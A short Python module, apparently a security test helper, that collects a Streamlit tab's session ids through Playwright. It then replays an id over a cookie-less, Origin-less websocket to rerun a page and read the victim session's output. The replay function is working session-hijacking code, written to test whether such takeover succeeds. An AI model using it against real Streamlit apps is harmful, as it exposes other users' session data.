"""An attacker's Streamlit client: replay a session id over a bare websocket, read what comes back.

The victim's session id is the `new_session.initialize.session_id` of the first message its tab
receives (`SessionIds` collects them from a Playwright page). `replay` opens
`/_stcore/stream` from Python with no cookie and no Origin, offering the subprotocols the
frontend uses to reconnect (`streamlit, PLACEHOLDER, <id>`), asks for a script run of
`page_name`, and returns the text of every message of that run.
"""

from __future__ import annotations

import time

from google.protobuf import text_format
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ClientState_pb2 import ClientState
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.sync.client import connect

# A run's end; FINISHED_EARLY_FOR_RERUN is followed by the run it gave way to.
DONE = (ForwardMsg.FINISHED_SUCCESSFULLY, ForwardMsg.FINISHED_WITH_COMPILE_ERROR)


class SessionIds:
    """The Streamlit session ids a Playwright page's websockets are given, in order."""

    def __init__(self, page) -> None:
        self.seen: list[str] = []
        page.on("websocket", self._on_socket)

    def _on_socket(self, socket) -> None:
        socket.on("framereceived", self._on_frame)

    def _on_frame(self, payload: bytes | str) -> None:
        if isinstance(payload, str):
            return
        msg = ForwardMsg()
        try:
            msg.ParseFromString(payload)
        except Exception:
            return
        if msg.WhichOneof("type") == "new_session":
            self.seen.append(msg.new_session.initialize.session_id)

    def last(self) -> str:
        """The newest session id (the tab's current session)."""
        assert self.seen, "the page never received a new_session message"
        return self.seen[-1]


def replay(base_url: str, session_id: str, page_name: str, timeout: float = 60) -> str:
    """Everything a cookie-less client gets when it reruns session `session_id` on a page."""
    texts: list[str] = []
    ws_url = base_url.replace("http://", "ws://", 1)
    # The sync client: Playwright's sync API already runs an event loop in this thread.
    with connect(
        f"{ws_url}/_stcore/stream",
        subprotocols=["streamlit", "PLACEHOLDER", session_id],  # type: ignore[list-item]
        open_timeout=timeout,
    ) as socket:
        run = BackMsg(rerun_script=ClientState(query_string="", page_name=page_name))
        socket.send(run.SerializeToString())
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                frame = socket.recv(timeout=deadline - time.monotonic())
            except TimeoutError:
                break
            msg = ForwardMsg()
            msg.ParseFromString(frame)
            texts.append(text_format.MessageToString(msg, as_utf8=True))
            if msg.WhichOneof("type") == "script_finished" and msg.script_finished in DONE:
                break
    return "\n".join(texts)
